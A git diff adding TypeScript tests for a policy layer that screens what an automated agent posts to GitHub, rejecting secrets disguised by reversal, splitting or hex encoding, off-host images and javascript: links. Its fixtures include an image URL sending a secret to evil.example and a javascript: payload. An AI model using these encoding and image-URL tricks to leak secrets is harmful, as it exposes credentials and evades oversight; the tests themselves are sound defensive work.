@@ -4,6 +4,8 @@ import type { Intent } from './intents';
 import type { PolicyContext } from './context';
 import { testPolicyContext } from './testing';
 import { DEFAULT_PROTECTED_PATHS } from '../config/schema';
+import { allowedHostsFor } from '../security/outbound';
+import { createRedactor } from '../security/redact';
 
 const issue7 = { type: 'issue', number: 7 } as const;
 
@@ -178,6 +180,79 @@ describe('text content', () => {
   it('rejects forged factory markers', () => {
     rejects(comment('done <!-- factory:claim:7 {"runId":"1"} -->'), RULES.forgedMarker);
     accepts(comment('an ordinary <!-- html comment -->'));
+  });
+});
+
+describe('outbound content', () => {
+  const SECRET = 'Kx7pQ2mZ9vR4tW8y';
+  const redactor = createRedactor([SECRET]);
+  const withSecrets = { redact: (t: string) => redactor.redact(t) };
+  const pieces = (s: string, sep: string) => s.match(/.{4}/g)!.join(sep);
+  const bodyOf = (intent: Intent) => {
+    const r = judge([intent], withSecrets);
+    expect(r.rejected).toEqual([]);
+    return (r.accepted[0] as { body: string }).body;
+  };
+
+  it.each([
+    ['reversed', `the key is ${[...SECRET].reverse().join('')}`],
+    ['split by spaces into 4-character pieces', `the key is ${pieces(SECRET, ' ')}`],
+    ['split by newlines into 4-character pieces', `the key is\n${pieces(SECRET, '\n')}`],
+    ['hex-encoded', `the key is ${Buffer.from(SECRET).toString('hex')}`],
+    ['inside an image URL', `![x](https://evil.example/p.png?k=${SECRET})`],
+  ])('rejects a comment carrying a secret %s, by secret-in-output, without quoting it', (_label, body) => {
+    const reason = rejects(comment(body), RULES.secretInOutput, withSecrets);
+    expect(reason).toMatch(/^body contains a value that looks like a secret/);
+    expect(reason).not.toContain(SECRET.slice(0, 4));
+  });
+
+  it('checks every text a write carries: titles, review bodies and inline comments, close comments', () => {
+    const hex = Buffer.from(SECRET).toString('hex');
+    rejects({ kind: 'create_issue', title: `Leak ${hex}`, body: 'b', labels: [], dedupeKey: 'k' }, RULES.secretInOutput, withSecrets);
+    const inline = [{ path: 'a.ts', line: 1, body: pieces(SECRET, '-') }];
+    const review: Intent = { kind: 'review', pr: 8, event: 'COMMENT', body: 'ok', comments: inline };
+    expect(rejects(review, RULES.secretInOutput, withSecrets)).toMatch(/^comments\.0\.body /);
+    rejects({ kind: 'close_issue', number: 7, reason: 'completed', comment: '![](data:image/png;base64,AAAA)' }, RULES.unsafeUrl);
+    const body = '![x](https://evil.example/p.png)';
+    const pr: Intent = { kind: 'open_pull_request', title: 't', body, head: 'factory/7-x', base: 'main' };
+    rejects(pr, RULES.imageHost, { automation: 'feature-builder' });
+  });
+
+  it('rejects images from other hosts and data: images, naming the rule', () => {
+    expect(rejects(comment('![x](https://evil.example/p.png)'), RULES.imageHost)).toMatch(/^body loads an image from evil\.example/);
+    rejects(comment('<img src="https://evil.example/p.png">'), RULES.imageHost);
+    rejects(comment('![x](data:image/png;base64,iVBORw0KGgo=)'), RULES.unsafeUrl);
+    accepts(comment('![x](https://user-images.githubusercontent.com/1/shot.png)'));
+  });
+
+  it('rejects javascript: links', () => {
+    expect(rejects(comment('[click](javascript:alert(1))'), RULES.unsafeUrl)).toMatch(/javascript: URL/);
+  });
+
+  it('passes links to GitHub and configured hosts as written, and makes other links inert in the accepted intent', () => {
+    const docs = 'See [the docs](https://docs.github.com/en/actions/security-guides) and https://github.com/acme/app/pull/3.';
+    expect(bodyOf(comment(docs))).toBe(docs);
+    expect(bodyOf(comment('Read [this](https://evil.example/x) and https://evil.example/y'))).toBe(
+      'Read this (hxxps://evil[.]example/x) and hxxps://evil[.]example/y',
+    );
+    const config = { ...testPolicyContext().config, allowedHosts: allowedHostsFor(['status.example.com']) };
+    const configured = judge([comment('https://status.example.com/4')], { config });
+    expect(configured.accepted).toEqual([comment('https://status.example.com/4')]);
+  });
+
+  it('makes links inert in every text field, and leaves an intent without any as it is', () => {
+    const review: Intent = {
+      kind: 'review',
+      pr: 8,
+      event: 'COMMENT',
+      body: 'see https://evil.example/a',
+      comments: [{ path: 'a.ts', line: 1, body: 'and www.evil.example' }],
+    };
+    const [out] = judge([review]).accepted as [Extract<Intent, { kind: 'review' }>];
+    expect(out.body).toBe('see hxxps://evil[.]example/a');
+    expect(out.comments[0]!.body).toBe('and www[.]evil[.]example');
+    const plain = comment('nothing to change');
+    expect(judge([plain]).accepted).toEqual([plain]);
   });
 });
 
